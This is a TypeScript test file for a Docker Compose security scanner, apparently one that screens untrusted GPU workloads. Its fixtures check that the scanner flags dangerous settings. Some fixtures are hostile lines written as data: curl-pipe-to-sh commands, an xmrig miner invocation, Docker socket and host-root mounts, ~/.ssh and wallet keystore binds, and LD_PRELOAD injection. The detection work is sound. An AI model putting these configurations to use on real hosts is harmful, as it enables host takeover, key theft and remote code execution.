import { describe, expect, it } from 'vitest';
import { readCompose } from '../../source/compose/read-compose.ts';
import { pinBytes } from '../../source/pinned-bytes.ts';
import { detectorInfo } from '../rules/detector-info.ts';
import { checkCompose } from './check-compose.ts';

function check(text: string) {
  const file = pinBytes('compose.yaml', Buffer.from(text));
  return checkCompose(readCompose(file), file);
}

const pinned = `app@sha256:${'a'.repeat(64)}`;
const service = (field: string, rest = '') =>
  `services:\n  web:\n    image: ${pinned}\n    ${field}\n${rest}`;
const rules = (text: string) => [...new Set(check(text).map(({ ruleId }) => ruleId))];

/** `${…}` */
const variable = (inner: string) => `$\{${inner}}`;

describe('an honest compose file', () => {
  it.each([
    [
      'of a web service',
      service(
        'restart: unless-stopped\n    ports: ["8080:80"]\n    environment: {MODEL: llama}\n    healthcheck: {test: curl -f localhost}',
      ),
    ],
    [
      'of an NVIDIA job',
      service(
        'deploy: {resources: {reservations: {devices: [{driver: nvidia, count: all, capabilities: [gpu]}]}}}\n    shm_size: 16g',
      ),
    ],
    ['of an AMD job', service('devices: [/dev/kfd, /dev/dri]\n    group_add: [video, render]')],
    ['with volumes', service('volumes: ["cache:/root/.cache"]', 'volumes: {cache: }')],
    ['with defaults', service(`environment: ["PORT=${variable('PORT:-8000')}"]`)],
    [
      'with several services',
      `services:\n  a: {image: "${pinned}", depends_on: [b]}\n  b: {image: "${pinned}", networks: [x]}\nnetworks: {x: }`,
    ],
  ])('%s has nothing to hold on to', (_, text) => {
    const held = check(text).filter(({ ruleId }) => !['info', 'low'].includes(detectorInfo(ruleId).severity));
    expect(held).toEqual([]);
  });
});

describe('what hands the host over can cost the stake', () => {
  it.each([
    ['privileged: true', 'compose/privileged'],
    ['privileged: "yes"', 'compose/privileged'],
    ['post_start: [{command: x, privileged: true}]', 'compose/privileged'],
    ['volumes: ["/var/run/docker.sock:/var/run/docker.sock"]', 'compose/engine-socket'],
    ['volumes: ["/run//./docker.sock:/x:ro"]', 'compose/engine-socket'],
    ['volumes: [{type: bind, source: /run/containerd/containerd.sock, target: /x}]', 'compose/engine-socket'],
    ['use_api_socket: true', 'compose/engine-socket'],
    ['volumes: ["/:/host"]', 'compose/host-root-bind'],
    ['volumes: ["/srv/../etc:/host"]', 'compose/host-root-bind'],
    ['volumes: ["/var/lib/docker:/x"]', 'compose/host-root-bind'],
    ['volumes: ["~:/x"]', 'compose/host-root-bind'],
    ['volumes: ["~/.ethereum/keystore:/k"]', 'compose/wallet-bind'],
    ['devices: ["/dev/sda:/dev/sda"]', 'compose/host-disk'],
    ['devices: [{source: /dev/mem}]', 'compose/host-disk'],
    ['device_cgroup_rules: ["a *:* rwm"]', 'compose/host-disk'],
    ['environment: [PROVIDER_PRIVATE_KEY]', 'compose/provider-secret'],
    [`environment: {K: "${variable('PROVIDER_PRIVATE_KEY')}"}`, 'compose/provider-secret'],
    [`labels: {K: "${variable('PROVIDER_PRIVATE_KEY:-x')}"}`, 'compose/provider-secret'],
  ])('%s', (field, rule) => {
    expect(rules(service(field))).toContain(rule);
    expect(detectorInfo(rule)).toMatchObject({ slashable: true, severity: 'critical' });
  });

  it.each([
    [
      'a folder of the host',
      'volumes: {x: {driver_opts: {type: none, o: bind, device: /}}}',
      'compose/host-root-bind',
    ],
    [
      'the socket of the engine',
      'volumes: {x: {driver_opts: {o: "bind,ro", device: /run/docker.sock}}}',
      'compose/engine-socket',
    ],
    ['a disk', 'volumes: {x: {driver_opts: {type: ext4, device: /dev/vda1}}}', 'compose/host-disk'],
  ])('%s behind a named volume', (_, volumes, rule) => {
    expect(rules(service('volumes: ["x:/x"]', volumes))).toContain(rule);
  });

  it('behind an anchor, a merge key, an extension or a profile', () => {
    expect(rules(`x-a: &a {privileged: true}\nservices: {web: {<<: *a, image: "${pinned}"}}`)).toContain(
      'compose/privileged',
    );
    expect(rules(`services:\n  a: {image: "${pinned}", privileged: true}\n  b: {extends: a}`)).toContain(
      'compose/privileged',
    );
    expect(rules(service('profiles: [never]\n    privileged: true'))).toContain('compose/privileged');
  });
});

describe('what is held or refused', () => {
  it.each([
    ['network_mode: host', 'compose/host-network'],
    ['network_mode: "container:x"', 'compose/foreign-namespace'],
    ['pid: host', 'compose/host-pid'],
    ['ipc: host', 'compose/host-ipc'],
    ['uts: host', 'compose/host-uts'],
    ['userns_mode: host', 'compose/host-userns'],
    ['cgroup: host', 'compose/host-cgroup'],
    ['cgroup_parent: system.slice', 'compose/cgroup-parent'],
    ['cap_add: [CAP_SYS_ADMIN]', 'compose/capability-takeover'],
    ['cap_add: [IPC_LOCK]', 'compose/capability'],
    ['security_opt: ["seccomp:unconfined"]', 'compose/unconfined'],
    ['security_opt: ["systempaths=unconfined"]', 'compose/unmasked'],
    ['security_opt: ["seccomp=/etc/x.json"]', 'compose/host-file'],
    ['runtime: crun', 'compose/runtime'],
    ['sysctls: {net.ipv4.ip_forward: 1}', 'compose/sysctl'],
    ['group_add: [docker]', 'compose/host-group'],
    ['annotations: {dev.gvisor.flag.debug: "true"}', 'compose/runtime-annotation'],
    ['provider: {type: x}', 'compose/host-program'],
    ['devices: ["/dev/kvm"]', 'compose/device'],
    ['devices: ["vendor.com/class=x"]', 'compose/cdi-device'],
    ['gpus: [{driver: cdi, capabilities: [gpu]}]', 'compose/cdi-device'],
    ['volumes: ["/srv/data:/data"]', 'compose/host-bind'],
    ['volumes: ["./data:/data"]', 'compose/missing-path'],
    ['volumes: ["/etc/passwd:/etc/passwd:ro"]', 'compose/host-system-bind'],
    ['volumes: ["~/.ssh:/root/.ssh"]', 'compose/credentials-bind'],
    ['volumes: ["/srv:/srv:rshared"]', 'compose/mount-propagation'],
    ['volumes: [{type: image, source: x, target: /x}]', 'compose/image-mount'],
    ['volumes_from: ["container:x"]', 'compose/volumes-from-container'],
    ['extra_hosts: ["x:169.254.169.254"]', 'compose/metadata-address'],
    ['extra_hosts: {x: host-gateway}', 'compose/host-gateway'],
    ['logging: {driver: syslog}', 'compose/log-egress'],
    ['env_file: .env', 'compose/missing-file'],
    ['env_file: /proc/1/environ', 'compose/host-file'],
    ['env_file: [{path: ../x}]', 'compose/host-file'],
    ['label_file: https://x.example/l', 'compose/host-file'],
    ['extends: {file: other.yaml, service: x}', 'compose/missing-file'],
    ['build: .', 'compose/build'],
    ['build: {context: "https://x.example/a.git", network: host}', 'compose/host-network'],
    ['develop: {watch: [{path: ., action: sync}]}', 'compose/develop'],
    ['environment: [HOME]', 'compose/host-variable'],
    ['hostname: $HOST', 'compose/host-variable'],
    ['environment: {CALLBACK_URL: "http://x"}', 'compose/network-variable'],
    ['environment: {CUDA_INJECTION64_PATH: /x.so}', 'compose/injection-variable'],
    ['environment: {LD_PRELOAD: /proc/self/cwd/x.so}', 'config/ld-preload-proc'],
    ['environment: {NVIDIA_VISIBLE_DEVICES: all}', 'config/nvidia-all-devices'],
    ['command: curl http://x.example/a | sh', 'config/download-and-run'],
    ['command: [xmrig, --donate-level, "1"]', 'config/miner-command'],
    ['healthcheck: {test: "curl http://x.example/a | sh"}', 'config/download-and-run'],
    ['working_dir: /proc/self/fd/8', 'config/workdir-proc-fd'],
    ['entrypoint: /proc/self/exe', 'config/entrypoint-proc-exe'],
    ['labels: {com.centurylinklabs.watchtower.enable: "true"}', 'compose/updater-label'],
    ['container_name: watchtower', 'compose/provider-name'],
    ['deploy: {replicas: 100000}', 'compose/many-containers'],
    ['oom_kill_disable: true', 'compose/host-pressure'],
    ['pull_policy: always', 'compose/pull-again'],
    ['tty: "maybe"', 'compose/type-invalid'],
    ['new_field: 1', 'compose/unknown-field'],
  ])('%s', (field, rule) => {
    expect(rules(service(field))).toContain(rule);
  });

  it.each([
    ['include: [other.yaml]', 'compose/include'],
    ['volumes: {x: {external: true}}', 'compose/external-resource'],
    ['volumes: {x: {driver: plugin}}', 'compose/volume-driver'],
    ['volumes: {x: {driver_opts: {type: nfs, device: ":/x"}}}', 'compose/remote-volume'],
    ['networks: {x: {driver: macvlan}}', 'compose/network-driver'],
    ['networks: {x: {name: opengpu-network__provider-app}}', 'compose/provider-name'],
    ['name: opengpu-network__provider-app', 'compose/provider-name'],
    ['secrets: {x: {file: /root/key}}', 'compose/host-file'],
    ['configs: {x: {environment: PROVIDER_PRIVATE_KEY}}', 'compose/provider-secret'],
    ['models: {x: {model: y}}', 'compose/model-runner'],
  ])('%s', (field, rule) => {
    expect(rules(service('user: "1000"', field))).toContain(rule);
  });

  it.each([
    ['app:latest', 'compose/image-not-pinned'],
    ['App', 'compose/image-invalid'],
    ['127.0.0.1:5000/app:1', 'compose/image-local-registry'],
    ['localhost/app', 'compose/image-local-registry'],
  ])('the image %s', (image, rule) => {
    expect(rules(`services: {web: {image: "${image}"}}`)).toContain(rule);
  });
});

describe('a finding', () => {
  it('has file, line, service and the bytes of its line', () => {
    const text = service('privileged: true # ü');
    const [hit] = check(text);
    expect(hit).toEqual({
      ruleId: 'compose/privileged',
      file: 'compose.yaml',
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      line: 4,
      service: 'web',
      matches: [
        {
          pattern: 'services.web.privileged',
          offset: text.indexOf('privileged'),
          length: Buffer.byteLength('privileged: true # ü'),
          line: 4,
          bytes: 'privileged: true # \\xc3\\xbc',
        },
      ],
      matchCount: 1,
      detail: 'services.web.privileged: true',
    });
  });

  it('of one rule does not push out those of another', () => {
    const volumes = Array.from({ length: 500 }, (_, i) => `      - /srv/${i}:/x${i}`).join('\n');
    const hits = check(service(`privileged: true\n    volumes:\n${volumes}`));
    expect(hits.filter(({ ruleId }) => ruleId === 'compose/host-bind')).toHaveLength(64);
    expect(hits.some(({ ruleId }) => ruleId === 'compose/privileged')).toBe(true);
  });
});
